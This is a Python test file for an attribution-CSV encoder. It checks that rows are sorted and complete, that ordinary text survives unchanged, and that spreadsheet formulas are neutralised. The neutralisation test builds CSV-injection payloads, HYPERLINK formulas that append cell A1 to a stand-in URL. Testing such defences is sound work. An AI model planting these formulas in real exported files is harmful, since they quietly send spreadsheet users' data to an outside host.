"""`attribution.csv` names everybody, and runs nothing in a spreadsheet."""

import csv
import io
import itertools

from pipeline.documents.attribution import encode_attribution
from tests.pipeline.documents.rows_by_hand import row


def cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


def test_rows_are_sorted_and_complete() -> None:
    read = cells(encode_attribution([row("b"), row("a", attribution="somebody, and others")]))
    assert [entry["uid"] for entry in read] == ["a", "b"]
    assert read[0] == {
        "uid": "a",
        "title": "Ball",
        "licence": "CC0-1.0",
        "licence_source": "tests",
        "attribution": "somebody, and others",
        "source_url": "https://example.org/ball",
        "changes": "cleaned, remeshed and given new materials",
    }


def test_formulas_are_made_inert() -> None:
    fields = ["uid", "title", "licence", "attribution", "source_url"]
    for field, start in itertools.product(fields, ["=", "+", "-", "@", "\t", "\r"]):
        formula = f'{start}HYPERLINK("https://example.org/?"&A1)'
        (read,) = cells(encode_attribution([row(**{field: formula})]))
        assert read[field] == "'" + formula


def test_other_text_comes_back_as_it_was() -> None:
    for text in ['a "quoted" name', "a;b,c", "line\nbreak", "élan 高", "a=1", ""]:
        (read,) = cells(encode_attribution([row(title=text)]))
        assert read["title"] == text


def test_no_objects_give_the_heading_alone() -> None:
    assert encode_attribution([]).count(b"\n") == 1
